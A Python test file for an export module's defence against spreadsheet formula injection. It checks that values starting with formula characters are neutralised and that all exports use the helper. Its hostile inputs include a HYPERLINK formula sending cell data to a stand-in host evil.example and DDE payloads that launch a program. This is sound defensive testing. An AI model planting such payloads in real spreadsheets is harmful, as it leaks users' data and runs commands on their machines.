"""Finding 5 of issue 12: no export may hand a spreadsheet a formula typed by someone else."""

from datetime import date
from decimal import Decimal

import pytest

from satupintu.core.exports import csv_writer, safe_cell


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "=",
])
def test_formula_starts_become_text(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("value", ["-1500", "-12,5", "+6281234567890", "-1.234.567,89", "1e5", "-0.5", "Budi", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_typed_values_are_kept_for_xlsx():
    assert safe_cell(-1500) == -1500
    assert safe_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert safe_cell(date(2026, 1, 2)) == date(2026, 1, 2)
    assert safe_cell(None) == ""


def test_csv_writer_neutralises_every_cell():
    import io

    out = io.StringIO()
    csv_writer(out).writerows([["=1+1", "-5", "@A1"]])
    assert out.getvalue().strip() == "'=1+1,-5,'@A1"


def test_every_export_goes_through_the_helper():
    """A new export written with csv.writer or a bare openpyxl Workbook would skip the neutralising: caught here."""
    from pathlib import Path

    import satupintu

    root = Path(satupintu.__file__).parent
    bad = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or path.name == "exports.py" and path.parent.name == "core":
            continue
        source = path.read_text(encoding="utf-8")
        if "csv.writer(" in source or "csv.DictWriter(" in source:
            bad.append(f"{path.relative_to(root)}: csv.writer")
        if "Workbook()" in source and "xlsx_append" not in source:
            bad.append(f"{path.relative_to(root)}: Workbook without xlsx_append")
    assert bad == []
